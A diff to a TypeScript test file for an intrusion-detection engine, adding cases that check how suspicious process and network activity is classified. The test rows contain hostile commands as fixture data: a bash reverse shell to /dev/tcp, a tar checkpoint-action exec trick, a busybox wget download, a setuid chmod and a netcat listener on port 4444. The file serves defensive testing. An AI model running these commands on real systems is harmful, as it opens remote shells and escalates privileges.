@@ -13,9 +13,18 @@ import { severityOf } from './severity.ts';
 const web = '/usr/sbin/nginx';
 const context = { scope: 'shop', service: 'web', mode: 'detect' } as const;
 
+/** What the activity shows in a field of its arguments; of the others no reason looks at the text. */
+function seenIn(activity: Activity, field: string): string {
+  return field.startsWith('argv[') ? (activity.image?.argv[Number(field.slice(5, -1))] ?? 'b') : 'b';
+}
+
 /** `fields` = where the nearest allowed behaviour differs; null = nothing is near. */
 function found(activity: Activity, fields: readonly string[] | null, server?: string): Finding {
-  const differences: Difference[] = (fields ?? []).map((field) => ({ field, allowed: 'a', seen: 'b' }));
+  const differences: Difference[] = (fields ?? []).map((field) => ({
+    field,
+    allowed: 'a',
+    seen: seenIn(activity, field),
+  }));
   const behaviour = { kind: 'listen', exe: '/x', proto: 'tcp', port: '1' } as const;
   const deviation: Deviation = {
     kind: activity.kind,
@@ -29,20 +38,29 @@ function found(activity: Activity, fields: readonly string[] | null, server?: st
   return assess(deviation, context);
 }
 
+const tarRuns = process('/usr/bin/tar', ['tar', 'cf', 'a', '--checkpoint-action=exec=x']);
+const tarTakes = found(process('/usr/bin/tar', ['tar', 'cf', '/tmp/a']), ['argv[2]']);
+
 const rows: readonly (readonly [Finding, readonly string[]])[] = [
   [found(process('/usr/bin/id', ['id']), null), ['new-executable']],
   [found(process('/usr/bin/id', ['id'], '/bin/sh'), ['exe'], web), ['new-executable', 'child-of-server']],
   [
     found(process('/bin/sh', ['sh', '-c', 'id'], web), ['argv[2]', 'parent'], web),
-    ['other-arguments', 'other-parent', 'shell-from-server'],
+    ['other-arguments', 'other-code', 'other-parent', 'shell-from-server'],
   ],
-  [found(process('/usr/bin/python3.11', ['python3'], web), ['argv[0]'], web), ['other-arguments', 'shell-from-server']],
+  [
+    found(process('/usr/bin/python3.11', ['python3'], web), ['argv[0]'], web),
+    ['other-arguments', 'other-code', 'shell-from-server'],
+  ],
   [found(process('/bin/busybox', ['wget', 'http://x/']), ['argv[0]']), ['other-arguments', 'download-tool']],
+  [found(tarRuns, ['argv[3]']), ['other-arguments', 'other-code']],
+  [found(tarRuns, ['argv[2]']), ['other-arguments']],
+  [tarTakes, ['other-arguments', 'temporary-argument']],
   [found(process(web, ['nginx']), ['user']), ['became-root']],
   [found(process(web, ['nginx'], null, { image: imageOf(web, ['nginx'], 7) }), ['user']), ['other-user']],
   [
     found(process('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/1']), ['argv[2]']),
-    ['other-arguments', 'telltale-argument'],
+    ['other-arguments', 'other-code', 'telltale-argument'],
   ],
   [
     found(process('/usr/bin/chmod', ['chmod', '4755', '/x']), ['argv[1]']),
@@ -55,6 +73,7 @@ const rows: readonly (readonly [Finding, readonly string[]])[] = [
   [found(outbound('/usr/bin/app', '169.254.169.254', 80), ['exe']), ['new-caller', 'metadata-service']],
   [found(outbound(null, '10.0.0.9', 22), ['port']), ['new-port', 'administration-port', 'unattributed']],
   [found(inbound(web, '10.0.0.9', 80), ['peer']), ['new-client']],
+  [found(inbound('/usr/sbin/sshd', '10.0.0.9', 22), ['peer']), ['new-client', 'administration-port']],
   [found(inbound(web, '8.8.8.8', 81), ['port']), ['new-client', 'new-listener', 'public-address']],
   [found(listen('/usr/bin/nc', 4444), null), ['new-listener']],
   [found(listen('/usr/bin/nc', 80), ['exe']), ['port-of-another']],
